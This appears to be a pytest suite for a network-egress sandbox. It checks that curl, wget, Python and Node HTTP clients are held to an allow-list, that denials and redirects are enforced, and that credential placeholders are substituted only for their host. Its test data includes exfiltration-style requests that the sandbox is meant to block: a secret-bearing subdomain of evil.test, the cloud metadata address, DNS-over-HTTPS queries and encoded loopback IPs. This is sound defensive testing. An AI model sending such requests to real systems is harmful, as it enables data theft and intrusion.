"""HTTP clients as they are, in real runs: through the proxy, through names, judged one by one."""

from __future__ import annotations

import json
import shutil

import pytest

from gate.lab import OPEN, Lab, Ran

from .site import Answer, Seen, Site

SECRET = "a-real-secret-0123456789"


@pytest.fixture(scope="module", autouse=True)
def _answers(site: Site) -> None:
    def api(seen: Seen) -> Answer:
        if seen.path.startswith("/echo"):
            return (
                200,
                {"X-Echo": seen.headers.get("authorization", "")},
                json.dumps(
                    {"authorization": seen.headers.get("authorization"), "body": len(seen.body)}
                ).encode(),
            )
        if seen.path == "/away":
            return 302, {"Location": "https://other.test/landing"}, b""
        return 200, {"Content-Type": "text/plain"}, b"hello from " + seen.path.encode()

    site.handlers["api.test"] = api


TRUSTED = OPEN.replace('"fs:./**"]', '"fs:./**", "https://api.test/**?*", "tcp://files.test:443"]')
"""What the servers say is trusted, so that these tests are about something else."""


def policy(site: Site, more: str = "", base: str = TRUSTED) -> str:
    rules = """[network]
http = ["GET,POST https://api.test/ok/**?*", "GET,POST https://api.test/echo/**",
        "GET https://api.test/away", "GET http://api.test/ok/**"]
allow = ["files.test:443"]
"""
    return base + rules + site.network + more


def fine(ran: Ran) -> str:
    assert ran.summary["code"] == 0, ran.err
    return ran.out


# --- curl ---

CURL = shutil.which("curl") or "curl"
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")


@needs_curl
@pytest.mark.parametrize("way", ["proxy", "names", "socks"])
@pytest.mark.parametrize("scheme", ["https", "http"])
def test_curl(lab: Lab, site: Site, way: str, scheme: str) -> None:
    options = {
        "proxy": [],
        "names": ["--noproxy", "*"],
        "socks": ["-x", "socks5h://127.0.0.1:48101"],
    }
    url = f"{scheme}://api.test/ok/{way}" + ("?q=1" if scheme == "https" else "")
    done = lab.run([CURL, "-sS", *options[way], url], policy(site))
    assert fine(done).startswith(f"hello from /ok/{way}")
    admitted = [
        e["resource"] for e in lab.log(kind="admit", run=done.run) if e["effect"] == "http.request"
    ]
    assert len(admitted) == 1
    assert admitted[0].startswith(f"{scheme}://api.test:")


@needs_curl
def test_curl_is_told_what_is_denied(lab: Lab, site: Site) -> None:
    before = len(site.seen)
    done = lab.run([CURL, "-sS", "-w", "%{http_code}", "https://api.test/forbidden"], policy(site))
    assert done.out.endswith("403")
    assert "E_POLICY_DENY" in done.out
    done = lab.run([CURL, "-sS", "https://evil.test/x"], policy(site))
    assert done.summary["code"] != 0
    assert len(site.seen) == before
    assert lab.denials(run=done.run)


@needs_curl
@pytest.mark.parametrize("way", ["proxy", "names"])
@pytest.mark.parametrize(
    "url",
    [
        "https://api.test:444/ok/x",
        "https://files.test:22/x",
        "https://dns.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB",
        "https://api.test.evil.test/ok/x",
        "https://sk-live-secret.evil.test/",
        "http://169.254.169.254/latest/meta-data/",
        "http://files.test/plain",
        "http://127.0.0.1:80/x",
        "http://2130706433/x",
    ],
)
def test_curl_gets_nowhere_else(lab: Lab, site: Site, way: str, url: str) -> None:
    """Other ports of an allowed host, DNS over HTTPS, look-alikes, metadata, plain HTTP, numbers."""
    before, asked = len(site.seen), len(site.asked)
    straight = ["--noproxy", "*"] if way == "names" else ["--noproxy", ""]
    done = lab.run([CURL, "-sS", "-m", "10", "-w", "%{http_code}", *straight, url], policy(site))
    assert done.summary["code"] != 0 or done.out.endswith("403"), done.out
    assert len(site.seen) == before
    assert len(site.asked) == asked


@pytest.mark.skipif(shutil.which("wget") is None, reason="wget is not installed")
def test_wget(lab: Lab, site: Site) -> None:
    done = lab.run(["wget", "-q", "-O", "-", "https://api.test/ok/wget"], policy(site))
    assert fine(done) == "hello from /ok/wget"


# --- Python ---

URLLIB = "import urllib.request as u\nprint(u.urlopen(URL).read().decode())"
HTTPX = "import httpx\nprint(httpx.get(URL).text)"
HTTPX_ASYNC = """
import asyncio, httpx
async def main():
    async with httpx.AsyncClient() as client:
        answers = await asyncio.gather(*[client.get(URL) for _ in range(8)])
        print(answers[0].text, {a.status_code for a in answers})
asyncio.run(main())
"""
REQUESTS = "import requests\nprint(requests.get(URL).text)"
AIOHTTP = """
import asyncio, aiohttp
async def main():
    async with aiohttp.ClientSession(trust_env=TRUST) as session:
        async with session.get(URL) as answer:
            print(await answer.text())
asyncio.run(main())
"""
ASYNCIO = """
import asyncio, ssl
async def main():
    reader, writer = await asyncio.open_connection("api.test", 443, ssl=ssl.create_default_context())
    writer.write(b"GET /ok/py HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n")
    print((await reader.read()).decode())
asyncio.run(main())
"""


@pytest.mark.parametrize(
    "source",
    [
        URLLIB,
        HTTPX,
        HTTPX_ASYNC,
        REQUESTS,
        AIOHTTP.replace("TRUST", "True"),
        AIOHTTP.replace("TRUST", "False"),
        ASYNCIO,
    ],
    ids=["urllib", "httpx", "httpx-async", "requests", "aiohttp", "aiohttp-names", "asyncio-names"],
)
def test_python(lab: Lab, site: Site, source: str) -> None:
    done = lab.run(f"URL = 'https://api.test/ok/py'\n{source}", policy(site))
    assert "hello from /ok/py" in fine(done)


def test_python_without_the_variables(lab: Lab, site: Site) -> None:
    """The system's bundle and certifi are covered, names lead to the gate: nothing has to be set."""
    source = """
import os
for name in list(os.environ):
    if name.upper().endswith(("_PROXY", "BUNDLE", "CERT_FILE")):
        del os.environ[name]
"""
    done = lab.run(f"{source}URL = 'https://api.test/ok/py'\n{REQUESTS}\n{URLLIB}", policy(site))
    assert fine(done).count("hello from /ok/py") == 2


def test_many_requests_on_one_connection_are_judged_each(lab: Lab, site: Site) -> None:
    source = """
import requests
with requests.Session() as session:
    for path in ("ok/1", "forbidden", "ok/2"):
        answer = session.get("https://api.test/" + path)
        print(answer.status_code, answer.text)
    print(session.post("https://api.test/ok/3", data=b"x" * 100_000).status_code)
    print(session.delete("https://api.test/ok/4").status_code)
"""
    lines = fine(lab.run(source, policy(site))).splitlines()
    assert lines[0] == "200 hello from /ok/1"
    assert lines[1].startswith("403")
    assert "200 hello from /ok/2" in lines
    assert lines[-2:] == ["200", "403"]
    assert not [s for s in site.to("api.test") if s.path == "/forbidden" or s.method == "DELETE"]


def test_after_an_untrusted_answer_only_reading_goes_on(lab: Lab, site: Site) -> None:
    source = """
import requests
with requests.Session() as session:
    print(session.post("https://api.test/ok/1", data=b"x").status_code)
    print(session.get("https://api.test/ok/2").status_code)
    answer = session.post("https://api.test/ok/3", data=b"x")
    print(answer.status_code, answer.json()["error"]["code"])
"""
    done = lab.run(source, policy(site, base=OPEN))
    assert fine(done).splitlines() == ["200", "200", "403 E_TAINT"]
    assert not [
        s
        for s in site.to("api.test")
        if s.path == "/ok/3" and s.method == "POST" and s.body == b"x"
    ]


def test_a_redirect_to_another_host_is_a_request_of_its_own(lab: Lab, site: Site) -> None:
    source = """
import requests
answer = requests.get("https://api.test/away", allow_redirects=False)
print(answer.status_code, answer.headers["Location"])
try:
    print(requests.get("https://api.test/away").status_code)
except requests.exceptions.ProxyError as error:
    print("no way there")
"""
    said = fine(lab.run(source, policy(site)))
    assert said.startswith("302 https://other.test/landing")
    assert "no way there" in said or "403" in said
    assert site.to("other.test") == []


def test_a_tunnel_is_opaque_and_shows_the_servers_own_certificate(lab: Lab, site: Site) -> None:
    site.handlers["files.test"] = lambda seen: (200, {}, b"from afar")
    source = """
import socket, ssl, requests
with socket.create_connection(("files.test", 443)) as raw:
    with ssl.create_default_context().wrap_socket(raw, server_hostname="files.test") as s:
        print(s.getpeercert()["issuer"])
print(requests.get("https://files.test/any/path?and=query").text)
"""
    said = fine(lab.run(source, policy(site)))
    assert "the company next door" in said
    assert "from afar" in said


# --- Node ---

needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
NODE = shutil.which("node") or "node"


@needs_node
@pytest.mark.parametrize("url", ["https://api.test/ok/node", "http://api.test/ok/node"])
def test_nodes_own_fetch(lab: Lab, site: Site, url: str) -> None:
    source = f"fetch('{url}').then(r => r.text()).then(t => console.log(t))"
    done = lab.run([NODE, "-e", source], policy(site))
    assert "hello from /ok/node" in fine(done)


@needs_node
def test_nodes_https_and_a_denial(lab: Lab, site: Site) -> None:
    source = """
const https = require('https');
https.get('https://api.test/forbidden', (r) => {
  console.log(r.statusCode); r.resume();
  fetch('https://evil.test/').catch((e) => console.log(e.cause.code));
});
"""
    said = fine(lab.run([NODE, "-e", source], policy(site)))
    assert said.split() == ["403", "ENOTFOUND"]


# --- credentials ---

CREDENTIAL = '[credentials.hub]\nfrom_env = "HUB_TOKEN"\nhosts = ["api.test"]\n'


def with_secret(lab: Lab, site: Site, source: str, monkeypatch: pytest.MonkeyPatch) -> Ran:
    monkeypatch.setenv("HUB_TOKEN", SECRET)
    done = lab.run(
        "import os, requests\nTOKEN = os.environ['HUB_TOKEN']\n" + source, policy(site, CREDENTIAL)
    )
    assert SECRET not in done.out + done.err
    return done


def test_a_placeholder_becomes_the_secret_for_its_host_and_comes_back_as_itself(
    lab: Lab, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    done = with_secret(
        lab,
        site,
        """
answer = requests.get("https://api.test/echo/1", headers={"Authorization": "Bearer " + TOKEN})
print(answer.headers["X-Echo"] == "Bearer " + TOKEN)
print(answer.json()["authorization"] == "Bearer " + TOKEN)
print(requests.get("https://api.test/echo/2", auth=("user", TOKEN)).status_code)
""",
        monkeypatch,
    )
    assert fine(done).split() == ["True", "True", "200"]
    seen = {s.path: s.headers for s in site.to("api.test")}
    assert seen["/echo/1"]["authorization"] == f"Bearer {SECRET}"
    assert seen["/echo/2"]["authorization"].startswith("Basic ")
    assert "authority-placeholder" not in str(seen["/echo/1"]) + str(seen["/echo/2"])
    log = b"".join(path.read_bytes() for path in lab.directory.log.glob("*.jsonl"))
    assert SECRET.encode() not in log


def test_ones_own_key_does_not_reach_the_host(
    lab: Lab, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    done = with_secret(
        lab,
        site,
        """
headers = {"Authorization": "Bearer attackers", "Cookie": "a=attackers", "X-Api-Key": "attackers"}
answer = requests.get("https://api.test/echo/own", headers=headers)
print(answer.status_code, answer.text if answer.status_code != 200 else "")
""",
        monkeypatch,
    )
    assert fine(done).split() == ["200"]
    (seen,) = [s for s in site.to("api.test") if s.path == "/echo/own"]
    assert "attackers" not in str(seen)
    assert seen.headers["authorization"] == f"Bearer {SECRET}"


def test_a_placeholder_for_another_host_is_refused(
    lab: Lab, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.handlers["other.test"] = lambda seen: (200, {}, b"mine")
    monkeypatch.setenv("HUB_TOKEN", SECRET)
    text = policy(site, CREDENTIAL).replace(
        '"GET http://api.test/ok/**"', '"GET https://other.test/**"'
    )
    done = lab.run(
        "import os, requests\n"
        "h = {'Authorization': 'Bearer ' + os.environ['HUB_TOKEN']}\n"
        "print(requests.get('https://other.test/x', headers=h).status_code)\n"
        "print(requests.get('https://other.test/y').status_code)\n",
        text,
    )
    assert fine(done).split() == ["403", "200"]
    assert [s.path for s in site.to("other.test")] == ["/y"]
    (denied,) = [e for e in lab.denials(run=done.run) if e["effect"] == "http.request"]
    assert denied["code"] == "E_POLICY_DENY"
    assert "placeholder of the credential hub" in denied["reason"]
